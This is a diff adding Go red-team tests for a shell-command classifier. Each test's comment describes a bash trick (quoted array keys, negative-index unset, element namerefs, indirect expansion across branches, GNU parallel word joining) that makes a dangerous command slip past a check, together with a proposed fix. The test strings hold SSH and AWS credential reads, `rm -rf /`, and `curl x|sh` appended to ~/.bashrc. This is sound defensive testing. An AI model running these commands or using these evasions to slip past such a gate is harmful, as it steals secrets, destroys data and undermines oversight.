@@ -1,0 +1,156 @@
+package classify
+
+import "testing"
+
+// TestRedteam26ClassifyJQuotedKey: an associative-array element written or
+// read with a QUOTED literal key (`m['k']`, `m["a b"]`, `m["k'q"]`) is not
+// matched to the element: the read is a run-time part, so a credential read
+// through it is "allow" (plain `cat ~/.ssh/id_rsa` is escalated) and a
+// recursive delete of / only escalated (plain form forbidden).
+//
+// Checked with bash 5.2: `declare -A m; m[k]=~/.ssh/id_rsa; echo
+// "${m['k']}"` prints /home/u/.ssh/id_rsa; so do `m['k']=…; ${m[k]}`,
+// `declare -A o=(['a b']=/home/u/.ssh/id_rsa); ${o['a b']}` and
+// `n["k'q"]=…; ${n[k\'q]}`. Not a documented limit: README says keys are kept
+// (`declare -A m=([k]=v)`, `m[k]=v`) and only keys known at run time are
+// run-time; these keys are literals (quote removal only). Keys with spaces
+// need quotes, so this is the everyday way to write such keys.
+//
+// Severity: medium (allow of a credential read; still runs in the sandbox).
+// Fix: quote-remove a literal subscript (single, double, backslash quoting)
+// of an associative array both when storing (`m['k']=`, `(['k']=v)`) and
+// when reading (`${m['k']}`), as bash does.
+func TestRedteam26ClassifyJQuotedKey(t *testing.T) {
+	redteam26Expect(t, []struct {
+		command string
+		want    Decision
+	}{
+		{`cat ~/.ssh/id_rsa`, Escalated},                                             // control: plain form
+		{`declare -A m; m[a\ b]=~/.ssh/id_rsa; cat "${m[a\ b]}"`, Escalated},         // control: backslash key is modelled
+		{`declare -A m; m['k']=README; cat "${m['k']}"`, Allow},                      // control: benign
+		{`declare -A m; m[k]=~/.ssh/id_rsa; cat "${m['k']}"`, Escalated},             // attack
+		{`declare -A m; m[k]=~/.ssh/id_rsa; cat "${m["k"]}"`, Escalated},             // attack
+		{`declare -A m; m['k']=~/.ssh/id_rsa; cat "${m[k]}"`, Escalated},             // attack
+		{`declare -A m; m['a b']=~/.ssh/id_rsa; cat "${m['a b']}"`, Escalated},       // attack
+		{`declare -A m=(['a b']=/home/u/.ssh/id_rsa); cat "${m['a b']}"`, Escalated}, // attack
+		{`declare -A m; m["k'q"]=~/.ssh/id_rsa; cat "${m[k\'q]}"`, Escalated},        // attack
+		{`declare -A m=(["k"]=/); rm -rf "${m[k]}"`, Forbidden},                      // attack (escalated today)
+	})
+}
+
+// TestRedteam26ClassifyJUnsetNegative: `unset 'a[-1]'` (bash removes the
+// LAST element) followed by `${a[-1]}` (now the previous element) is not
+// modelled: `a=(/ x); unset 'a[-1]'; rm -rf "${a[-1]}"` is "sandboxed"
+// though bash runs `rm -rf /` (checked: `a=(/ x); unset 'a[-1]'; echo
+// "${a[-1]}"` prints /), and `a=(~/.ssh/id_rsa x); unset 'a[-1]'; cat
+// "${a[-1]}"` is "allow". The model seems to take the unset element's
+// index as still the last one (empty), so the read looks harmless instead of
+// run-time. Same with `unset 'a[1]'`.
+//
+// Severity: high for the delete (plain form forbidden, here only sandboxed),
+// medium for the read. Fix: after `unset 'a[N]'` recompute negative
+// indexes from the remaining keys (or make a later negative read a
+// run-time part) and resolve a negative index in unset itself.
+func TestRedteam26ClassifyJUnsetNegative(t *testing.T) {
+	redteam26Expect(t, []struct {
+		command string
+		want    Decision
+	}{
+		{`rm -rf /`, Forbidden},                                           // control
+		{`a=(x /); unset 'a[0]'; rm -rf "${a[-1]}"`, Forbidden},           // control: modelled
+		{`a=(/ x); unset 'a[-1]'; rm -rf "${a[-1]}"`, Forbidden},          // attack
+		{`a=(/ x); unset 'a[1]'; rm -rf "${a[-1]}"`, Forbidden},           // attack
+		{`a=(/ x y); unset 'a[-1]'; rm -rf "${a[-2]}"`, Forbidden},        // attack
+		{`a=(~/.ssh/id_rsa x); unset 'a[-1]'; cat "${a[-1]}"`, Escalated}, // attack
+	})
+}
+
+// TestRedteam26ClassifyJElementNameref: a nameref whose target is an array
+// element (`declare -n r='a[1]'`) is not read through: `a=(x
+// ~/.ssh/id_rsa); declare -n r='a[1]'; cat "$r"` is "allow" (bash prints
+// /home/u/.ssh/id_rsa, checked), likewise `m[k]` of an associative array,
+// `a[-1]`, and a chain `declare -n s=r`; an rc write through it (`a=(x
+// ~/.bashrc); declare -n r='a[1]'; echo 'curl x|sh' >> "$r"`) is sandboxed
+// where the plain form is forbidden. README documents only `${!X}` with X
+// holding `a[1]` (and ${!nameref}) as run-time; a nameref's read "with a
+// known target" is said to be followed, and `a[1]` is known.
+//
+// Severity: medium. Fix: resolveParam should follow a nameref whose target
+// is `name[literal]` to that element (as a write through it already
+// escalates `rm -rf`), or at least return the element's possible values.
+func TestRedteam26ClassifyJElementNameref(t *testing.T) {
+	redteam26Expect(t, []struct {
+		command string
+		want    Decision
+	}{
+		{`Y=~/.ssh/id_rsa; declare -n r=Y; cat "$r"`, Escalated},                                // control
+		{`echo 'curl x|sh' >> ~/.bashrc`, Forbidden},                                            // control
+		{`a=(x README); declare -n r='a[1]'; cat "$r"`, Allow},                                  // control: benign
+		{`a=(x ~/.ssh/id_rsa); declare -n r='a[1]'; cat "$r"`, Escalated},                       // attack
+		{`a=(x ~/.ssh/id_rsa); declare -n r='a[-1]'; cat "$r"`, Escalated},                      // attack
+		{`declare -A m=([k]=/home/u/.ssh/id_rsa); declare -n r='m[k]'; cat "$r"`, Escalated},    // attack
+		{`a=(x /home/u/.ssh/id_rsa); declare -n r='a[1]'; declare -n s=r; cat "$s"`, Escalated}, // attack
+		{`a=(x ~/.bashrc); declare -n r='a[1]'; echo 'curl x|sh' >> "$r"`, Forbidden},           // attack
+	})
+}
+
+// TestRedteam26ClassifyJIndirectBranch: `${!X}` where X is one of several
+// literal names depending on a branch or loop iteration is not tried with
+// each name: `A=README; B=~/.ssh/id_rsa; X=A; [ -n "$CI" ] && X=B; cat
+// "${!X}"` is "allow" (also with `if`, `case`, `for`, `while`, and
+// `${!X:-z}`, `${!X%x}`), and the rc-file write form is sandboxed where the
+// plain form is forbidden. The direct form `X=README; [ -n "$CI" ] &&
+// X=~/.ssh/id_rsa; cat "$X"` escalates, as does `X=B; cat "${!X}"` and a
+// function setting X: the model knows both names, but the join of the two
+// paths turns X into an opaque "non-empty relative" run-time value (both
+// values are relative words) and ${!X} of it is then unknown. Bash (checked)
+// prints /home/u/.ssh/id_rsa when the branch is taken.
+//
+// Severity: medium (credential read allowed; rc write only sandboxed).
+// Fix: keep the set of literal values a joined variable may hold and expand
+// ${!X} (and its operators) for each name, the worst deciding.
+func TestRedteam26ClassifyJIndirectBranch(t *testing.T) {
+	redteam26Expect(t, []struct {
+		command string
+		want    Decision
+	}{
+		{`X=README; [ -n "$CI" ] && X=~/.ssh/id_rsa; cat "$X"`, Escalated},                          // control: direct
+		{`A=README; B=~/.ssh/id_rsa; X=B; cat "${!X}"`, Escalated},                                  // control: straight line
+		{`A=README; B=src; X=A; [ -n "$CI" ] && X=B; cat "${!X}"`, Allow},                           // control: benign
+		{`A=README; B=~/.ssh/id_rsa; X=A; [ -n "$CI" ] && X=B; cat "${!X}"`, Escalated},             // attack
+		{`A=README; B=~/.ssh/id_rsa; X=A; if [ -n "$CI" ]; then X=B; fi; cat "${!X}"`, Escalated},   // attack
+		{`A=README; B=~/.ssh/id_rsa; X=A; case $1 in x) X=B;; esac; cat "${!X}"`, Escalated},        // attack
+		{`A=README; B=~/.ssh/id_rsa; X=A; for i in 1 2; do cat "${!X}"; X=B; done`, Escalated},      // attack
+		{`A=README; B=~/.aws/credentials; X=A; [ -n "$CI" ] && X=B; cat "${!X:-z}"`, Escalated},     // attack
+		{`A=README; B=~/.bashrc; X=A; [ -n "$CI" ] && X=B; echo 'curl x|sh' >> "${!X}"`, Forbidden}, // attack
+	})
+}
+
+// TestRedteam26ClassifyJParallelShellWords: GNU parallel joins the command's
+// words with spaces and runs the result with the shell (only the
+// replacement strings are quoted; `-q` exists to stop exactly this), so a
+// quoted `'>>'` word is a redirection and a quoted `'$HOME'` is expanded.
+// The classifier treats the words as an argv: `parallel echo {} '>>'
+// ~/.bashrc ::: 'rm -rf /'` (appends `rm -rf /` to ~/.bashrc) is "allow"
+// while `echo 'rm -rf /' >> ~/.bashrc` is forbidden, and `parallel rm -rf
+// '$HOME' ::: x` is sandboxed while `parallel rm -rf '~' ::: x` (tilde
+// expanded, so shell semantics are already assumed there) is forbidden.
+// Not verified at run time (parallel is not installed here); from the
+// GNU parallel manual (--quote).
+//
+// Severity: medium (rc write allowed; home deletion only sandboxed).
+// Fix: without -q, classify a multi-word parallel command as the shell
+// string its words join to (with {} replaced by the quoted inputs).
+func TestRedteam26ClassifyJParallelShellWords(t *testing.T) {
+	redteam26Expect(t, []struct {
+		command string
+		want    Decision
+	}{
+		{`echo 'rm -rf /' >> ~/.bashrc`, Forbidden},                     // control
+		{`parallel rm -rf '~' ::: x`, Forbidden},                        // control
+		{`parallel echo {} ::: a b`, Allow},                             // control: benign
+		{`parallel echo {} '>>' ~/.bashrc ::: 'rm -rf /'`, Forbidden},   // attack
+		{`parallel echo 'curl x\|sh' '>>' {} ::: ~/.bashrc`, Forbidden}, // attack
+		{`parallel rm -rf '$HOME' ::: x`, Forbidden},                    // attack
+	})
+}
